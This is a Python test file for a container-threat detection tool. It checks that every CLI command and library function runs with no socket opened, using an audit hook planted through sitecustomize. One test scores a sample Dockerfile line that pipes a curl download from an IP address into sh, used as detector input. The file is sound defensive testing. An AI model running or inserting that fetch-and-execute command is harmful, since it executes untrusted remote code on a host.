"""Nothing opens a socket: each command and each function is run with all of sockets forbidden.

An audit hook sees below every module, and cannot be taken out; so all runs are of fresh
interpreters, which get it when they start, and so do the processes that they start. More than
elsewhere in the tests is forbidden there: to make a socket at all.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

import t1612core
from t1612core.cli.main import _COMMANDS
from t1612core.export.targets import TARGETS
from t1612core.output.formats import FORMATS, names

from .conftest import ROOT
from .output.telling import CHAIN

FORBIDDEN = """
import os, sys
def shut(event, args):
    if event.startswith("socket."):
        sys.stderr.write("opened a socket: " + event + "\\n")
        sys.stderr.flush()
        os._exit(99)
sys.addaudithook(shut)
"""
# What reaches the network, and who imports it. (msgspec imports `_socket`, for a name of a type.)
REACHING = ("http.client", "requests", "socket", "ssl", "tldextract", "urllib.request", "urllib3")
NAMED = f"print(*sorted(set({REACHING!r}) & {{*sys.modules}}), file=sys.stderr)"

ATTACK, LABELLED = "examples/attack.jsonl", "examples/labelled.jsonl"
TUNING, FIELDS = "examples/tuning.toml", "examples/fields.toml"
COMMANDS: dict[str, tuple[str, ...]] = {
    "--version": ("--version",),
    "scan": ("scan", ATTACK),
    "scan a directory": ("scan", "examples"),
    "scan by a map": ("scan", "--fields", FIELDS, "examples/own-agent.ndjson"),
    "explain": ("explain", ATTACK),
    "correlate": ("correlate", ATTACK),
    "report": ("report", ATTACK),
    "report for a ticket": ("report", "--format", "md", ATTACK),
    "doctor": ("doctor", ATTACK),
    "schema list": ("schema", "list"),
    "schema show": ("schema", "show", "mde"),
    "schema lint": ("schema", "lint", FIELDS),
    "validate": ("validate", "examples/validation-tests.jsonl"),
    "evaluate": ("evaluate", LABELLED),
    "compare": ("compare", ATTACK),
    "tune lint": ("tune", "lint", TUNING),
    "tune explain": ("tune", "explain", "--allowlist", TUNING, ATTACK),
    "tune stats": ("tune", "stats", "--allowlist", TUNING, ATTACK),
    "tune suggest": ("tune", "suggest", LABELLED),
    "completion": ("completion", "bash"),
    "bench": ("bench", "--lines", "50", ATTACK),
    **{f"scan as {name}": ("scan", "--format", name, ATTACK) for name in names("findings")},
    **{
        f"correlate as {name}": ("correlate", "--format", name, ATTACK)
        for name in names("incidents")
    },
}


def alone(code: str, *args: str) -> subprocess.CompletedProcess[str]:
    """Run code in a fresh interpreter that forbids sockets."""
    env = {name: value for name, value in os.environ.items() if not name.startswith("COV")}
    with tempfile.TemporaryDirectory() as folder:
        # Every Python imports this when it starts, if it is there.
        Path(folder, "sitecustomize.py").write_text(FORBIDDEN, "utf-8")
        found = [folder, *filter(None, [env.get("PYTHONPATH")])]
        return subprocess.run(
            [sys.executable, "-W", "error", "-c", f"import sys\n{code}", *args],
            cwd=ROOT,
            env={**env, "PYTHONPATH": os.pathsep.join(found)},
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            check=False,
        )


def run_in_turn(lines: list[tuple[str, ...]], before: str = "") -> subprocess.CompletedProcess[str]:
    """Run command lines in one interpreter, and give what it printed and had imported."""
    code = f"""
import json
from t1612core.cli.main import main
{before}
for line in json.loads(sys.argv[1]):
    try:
        code = main(line)
    except SystemExit as ended:
        code = ended.code
    print("ended with", code, *line[:2], file=sys.stderr)
{NAMED}
"""
    return alone(code, json.dumps(lines))


def test_what_forbids_does_so_in_what_is_started_too() -> None:
    made = alone("import socket; socket.socket(socket.AF_UNIX)")
    started = alone(
        "import subprocess; "
        "sys.exit(subprocess.call([sys.executable, '-c', 'import socket; socket.socket()']))"
    )

    assert (99, "opened a socket: socket.__new__\n") == (made.returncode, made.stderr)
    assert (99, made.stderr) == (started.returncode, started.stderr)


@pytest.mark.no_cover  # repeats at length what others run
def test_no_command_opens_a_socket_or_imports_what_could() -> None:
    told = {args[0] for args in COMMANDS.values()}
    assert {*_COMMANDS} - told == {"export"}  # below
    done = run_in_turn([*COMMANDS.values()])
    *ends, imported = [
        line for line in done.stderr.splitlines() if not line.startswith(("t1612", " "))
    ]

    assert 0 == done.returncode, done.stderr
    codes = [line.split()[2] for line in ends if line.startswith("ended with ")]
    assert len(COMMANDS) == len(codes)
    assert {*codes} <= {"0", "1", "3"}, ends
    assert "" == imported


def test_no_rule_that_is_exported_needs_one(tmp_path: Path) -> None:
    done = run_in_turn(
        [("export", name, "--output", str(tmp_path / name)) for name in sorted(TARGETS)]
    )

    assert 0 == done.returncode, done.stderr
    assert len(TARGETS) == done.stderr.count("ended with 0 export")
    assert "" == done.stderr.splitlines()[-1]
    assert {*TARGETS} <= {path.name for path in tmp_path.iterdir()}


def test_several_processes_and_a_followed_file_need_none(tmp_path: Path) -> None:
    state, out = str(tmp_path / "state"), str(tmp_path / "out.jsonl")
    source = tmp_path / "events.jsonl"
    source.write_text((ROOT / ATTACK).read_text("utf-8"), "utf-8")
    once = ("--follow", "--once", "--state", state, "-o", out, str(source))
    small = (
        "from t1612core.cli import scan; cut = scan.cut; "
        "scan.cut = lambda path, readers: cut(path, 99)"
    )
    done = run_in_turn([("correlate", *once), ("scan", "--jobs", "2", ATTACK)], small)

    assert 0 == done.returncode, done.stderr
    assert "ended with 0 correlate" in done.stderr  # its steps wait for what may come
    assert "ended with 1 scan" in done.stderr
    assert "socket" == done.stderr.splitlines()[-1]  # imported by what starts processes, by pipes


VERBS = """
import io, json
import t1612core as t
events = json.loads(sys.argv[1])
process, file, network = events[1], events[0], events[2]
used = set()
def use(name, *args):
    used.add(name)
    value = getattr(t, name)(*args)
    return list(value) if hasattr(value, "__next__") else value
assert use("score_network", {**network, "RemoteUrl": "registry.shop.example.co.uk"})
PRINT
assert use("score_process", process) and use("score_file", file)
assert use("score_dockerfile", "FROM a\\nRUN curl http://203.0.113.7/x | sh").score
assert use("correlate", events) and use("summarise", events)
text = "\\n".join(map(json.dumps, events)).encode()
assert len(use("scan_ndjson", io.BytesIO(text))) == 3
assert len(use("read_json", io.BytesIO(text))) == len(use("events_from", text)) == len(events)
assert use("redact", "curl -u a:b") and use("event_id", process)
use("recognise", process), use("default_detector")
map_ = use("load_field_map", "examples/fields.toml")
use("auto_with", map_)
detector = t.Detector(t.HARDENED, t.AUTO)
assert detector.explain(process) and list(detector.observe(process))
print(*sorted(used))
PRINT
"""


def test_no_function_opens_one_and_the_first_score_of_a_connection_imports_nothing_for_it() -> None:
    done = alone(VERBS.replace("PRINT", NAMED), json.dumps(CHAIN))
    functions = {
        name
        for name in t1612core.__all__
        if callable(getattr(t1612core, name)) and not isinstance(getattr(t1612core, name), type)
    }

    assert (0, "\n\n") == (done.returncode, done.stderr)
    assert functions - {"scan_arrow", "Event", "Kind", "Rating", "Verdict"} == {
        *done.stdout.split()
    }


def test_a_table_is_scanned_without_one() -> None:
    """NumPy and PyArrow import sockets themselves, and open none."""
    pytest.importorskip("pyarrow")
    code = """
import json, pyarrow, t1612core
table = pyarrow.Table.from_pylist(json.loads(sys.argv[1]))
print(len(list(t1612core.scan_arrow(table))))
"""
    done = alone(code, json.dumps([{**each, "Type": "DeviceProcessEvents"} for each in CHAIN[1:2]]))

    assert ("1\n", "") == (done.stdout, done.stderr)


def test_every_format_is_among_the_commands() -> None:
    assert {*FORMATS} == {args[2] for name, args in COMMANDS.items() if " as " in name}
